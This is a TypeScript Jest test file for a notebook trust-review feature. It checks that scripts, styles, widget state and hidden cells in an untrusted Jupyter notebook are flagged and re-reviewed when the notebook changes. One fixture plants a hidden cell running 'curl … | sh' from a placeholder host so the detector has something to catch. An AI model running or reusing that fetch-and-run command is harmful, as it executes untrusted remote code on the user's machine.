import { type ICellModel, isCodeCellModel } from '@jupyterlab/cells';
import { NotebookModel } from '@jupyterlab/notebook';

import { reviewNotebook } from '../../engine/trust';
import { htmlNotebook } from '../testing/opennotebook';
import { PageEngine } from '../testing/pageengine';
import { type LiveReview, reviewLive } from './trustreview';

const SCRIPT = '<script>a()</script>';
const LOOK = '<style>a {}</style>';
const PRINTED = { output_type: 'stream', name: 'stdout', text: 'a\n' };

const toWidget = (id: string): object => ({
  output_type: 'display_data',
  data: { 'application/vnd.jupyter.widget-view+json': { model_id: id } },
  metadata: {}
});

const open = (
  htmls: readonly string[],
  isTrusted = false
): {
  model: NotebookModel;
  engine: PageEngine;
  cell(index: number): ICellModel;
  show(index: number, output: object): void;
  review(): Promise<LiveReview>;
} => {
  const model = new NotebookModel();
  model.fromJSON(htmlNotebook(htmls, isTrusted));
  const engine = new PageEngine();
  return {
    model,
    engine,
    cell: index => model.cells.get(index),
    show: (index, output) => {
      const cell = model.cells.get(index);
      if (isCodeCellModel(cell)) {
        cell.outputs.add(output as never);
      }
    },
    review: () => reviewLive(model, null, engine.client)
  };
};

// A model warns of what it reads before its document is there.
beforeAll(() => jest.spyOn(console, 'warn').mockImplementation());
afterAll(() => jest.restoreAllMocks());

describe('the review of an open notebook', () => {
  it('tells of all cells what the review of the whole notebook tells', async () => {
    const { model, review, show } = open([SCRIPT, '<b>a</b>', LOOK, SCRIPT]);
    show(3, PRINTED);
    show(3, {
      ...PRINTED,
      output_type: 'display_data',
      data: { 'text/html': LOOK }
    });
    model.sharedModel.insertCell(1, {
      cell_type: 'markdown',
      source: '<img src="https://a.example.org/b.png">',
      metadata: {}
    });
    model.sharedModel.insertCell(0, {
      cell_type: 'code',
      source: 'curl = !curl https://a.example.org/x.sh | sh',
      metadata: { jupyter: { source_hidden: true } }
    });
    const { review: found, cells } = await review();
    expect(found).toEqual(reviewNotebook(model.toJSON()));
    expect(found.changes.length).toBeGreaterThan(2);
    expect(found.looks.length).toBeGreaterThan(0);
    expect(found.code.length).toBeGreaterThan(0);
    expect(cells).toEqual([...model.cells]);
  });

  it('hands over cell by cell, and no lines that were printed', async () => {
    const { model, engine, review, show } = open([SCRIPT, LOOK, SCRIPT]);
    const { call } = engine.client;
    const handed: unknown[] = [];
    engine.client.call = (method, ...args) => {
      handed.push(args[0]);
      return call(method, ...args);
    };
    model.sharedModel.insertCell(3, {
      cell_type: 'code',
      source: 'print(1)',
      metadata: {}
    });
    show(3, PRINTED);
    await review();
    const texts = handed.map(each => JSON.stringify(each));
    expect(texts).toHaveLength(4);
    expect(texts[0]).toContain('show(2)');
    expect(texts[0]).not.toContain('script');
    expect(texts.slice(1).filter(text => text.includes(SCRIPT))).toHaveLength(
      2
    );
    expect(texts.join()).not.toContain('stdout');
  });

  it('hands the state of widgets over once, with the cells that show one', async () => {
    const { model, engine, review, show } = open(['<b>a</b>', SCRIPT, SCRIPT]);
    model.setMetadata('widgets', {
      'application/vnd.jupyter.widget-state+json': {
        state: { a: { state: { _esm: 'export default {}' } } }
      }
    });
    show(0, toWidget('a'));
    show(2, toWidget('a'));
    const { review: found } = await review();
    expect(engine.calls).toHaveLength(3);
    expect(found).toEqual(reviewNotebook(model.toJSON()));
    expect(found.changes.map(({ cell }) => cell)).toEqual([0, 1, 2, 2]);
  });

  it('leaves out what acts already in trusted cells', async () => {
    const { cell, review } = open([SCRIPT, LOOK, SCRIPT]);
    cell(0).trusted = true;
    cell(1).trusted = true;
    const { review: found } = await review();
    expect(found.changes.map(each => each.cell)).toEqual([2]);
    expect(found.looks).toEqual([]);
  });

  it('reads on in the change that is meant', async () => {
    const long = (name: string): string =>
      `<script>${`${name}();`.repeat(2000)}</script>`;
    const { review } = open([long('one'), '<b>a</b>', long('other')]);
    const live = await review();
    const texts = await Promise.all(
      live.review.changes.map(change => live.readOn(change, 0))
    );
    expect(texts.map(({ text }) => text.slice(0, 7))).toEqual([
      'one();o',
      'other()'
    ]);
  });

  it('rejects where one of its parts cannot be reviewed', async () => {
    const { engine, review } = open([SCRIPT, LOOK]);
    const { call } = engine.client;
    engine.client.call = (method, ...args) =>
      JSON.stringify(args).includes(LOOK)
        ? Promise.reject(new Error('failed'))
        : call(method, ...args);
    await expect(review()).rejects.toThrow('failed');
  });
});

describe('a review is fresh', () => {
  it('as long as the notebook holds what was reviewed', async () => {
    const { review } = open([SCRIPT, LOOK]);
    expect((await review()).isFresh()).toBe(true);
  });

  it.each<[string, (opened: ReturnType<typeof open>) => void]>([
    ['a source', ({ cell }) => cell(1).sharedModel.setSource('b')],
    ['an output', ({ show }) => show(1, toWidget('a'))],
    ['trust', ({ cell }) => void (cell(0).trusted = true)],
    ['the cells', ({ model }) => model.sharedModel.deleteCell(1)],
    ['their order', ({ model }) => model.sharedModel.moveCell(0, 1)],
    ['widgets', ({ model }) => model.setMetadata('widgets', { a: 1 })]
  ])('no more after a change of %s', async (_, change) => {
    const opened = open([SCRIPT, LOOK]);
    const live = await opened.review();
    change(opened);
    expect(live.isFresh()).toBe(false);
  });

  it('whatever trusted cells show meanwhile', async () => {
    const { cell, show, review } = open([SCRIPT, LOOK]);
    cell(0).trusted = true;
    const live = await review();
    show(0, toWidget('a'));
    expect(live.isFresh()).toBe(true);
  });

  it('no more where something changed while it was read', async () => {
    const htmls = Array.from({ length: 30 }, () => SCRIPT);
    const { cell, review } = open(htmls);
    const reviewing = review();
    // The first one is read at once, the last one is not.
    cell(0).sharedModel.setSource('b');
    expect((await reviewing).isFresh()).toBe(false);
  });

  it('no more where a cell was deleted before it was read', async () => {
    const htmls = Array.from({ length: 30 }, () => SCRIPT);
    const { model, review } = open(htmls);
    const reviewing = review();
    model.sharedModel.deleteCell(29);
    const { review: found, isFresh } = await reviewing;
    expect(found.changes.map(({ cell }) => cell)).not.toContain(29);
    expect(isFresh()).toBe(false);
  });
});
